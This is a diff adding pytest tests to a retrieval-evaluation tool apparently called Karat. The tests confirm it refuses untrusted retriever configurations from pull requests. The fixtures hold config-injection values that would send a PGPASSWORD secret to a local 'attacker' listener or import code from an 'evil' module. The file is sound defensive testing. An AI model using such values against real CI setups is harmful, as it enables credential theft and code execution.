@@ -167,3 +167,57 @@ def test_an_empty_ci_is_none(tmp_path: Path, karat_command: Command, monkeypatch
     configure("../outside")
     monkeypatch.setenv("CI", "")
     assert karat_command(*EVAL)[0] == 0
+
+
+CORPUS = '{"id": "a", "text": "how long does it take"}\n'
+QUERIES = '{"query_id": "q1", "query": "how long?", "gold": ["a"]}\n'
+RUN_IT = ("run", "bm25", "-q", "queries.jsonl", "--corpus", "corpus.jsonl", "--overwrite", "--max-errors", "0")
+ALL = ("run", *RUN_IT[2:])
+
+
+def list_retrievers(text: str) -> None:
+    Path("karat.yaml").write_text(f"retrievers:\n  chance: random\n  bm25: {text}\n")
+    Path("corpus.jsonl").write_text(CORPUS)
+    Path("queries.jsonl").write_text(QUERIES)
+
+
+@pytest.mark.parametrize("call", [RUN_IT, ALL], ids=["by name", "all"])
+@pytest.mark.parametrize(
+    "named",
+    [
+        "dense(x, url=http://127.0.0.1:{port}, key=PGPASSWORD)",
+        "hybrid(random, http://127.0.0.1:{port}/search)",
+        "{{retriever: 'http://127.0.0.1:{port}/search', headers: {{X: '${{PGPASSWORD}}'}}}}",
+        "search.yaml",
+        "evil:search",
+        "rerank(random, evil:score)",
+        "dense(evil)",
+    ],
+)
+def test_a_pull_request_names_no_code_and_no_server(
+    attacker: Listener, call: tuple[str, ...], named: str, karat_refuses: Refuses
+) -> None:
+    """Not even under the name of a retriever of Karat's own, which the workflow asks for."""
+    list_retrievers(named.format(port=attacker.port))
+    Path("search.yaml").write_text(f"retriever: http://127.0.0.1:{attacker.port}/search\n")
+    Path("evil.py").write_text("open('hacked', 'w')\n")
+    error = karat_refuses(*call)
+    assert (error.code, error.field) == ("untrusted-config", "retrievers.bm25")
+    assert (attacker.calls, Path("hacked").exists()) == (0, False)
+
+
+def test_that_attack_is_real_too(attacker: Listener, karat_refuses: Refuses) -> None:
+    list_retrievers(f"hybrid(random, http://127.0.0.1:{attacker.port}/search)")
+    assert karat_refuses(*RUN_IT, "--trust-config").code != "untrusted-config"
+    assert attacker.calls
+
+
+def test_retrievers_of_karats_own_need_no_trust(karat_command: Command) -> None:
+    list_retrievers("hybrid(bm25(k1=1.2), random)")
+    code, _, err = karat_command(*RUN_IT)
+    assert code == 0, err
+
+
+def test_what_karat_yaml_lists_is_nothing_to_who_names_another(karat_command: Command) -> None:
+    list_retrievers("evil:search")
+    assert karat_command("run", "random", *RUN_IT[2:])[0] == 0
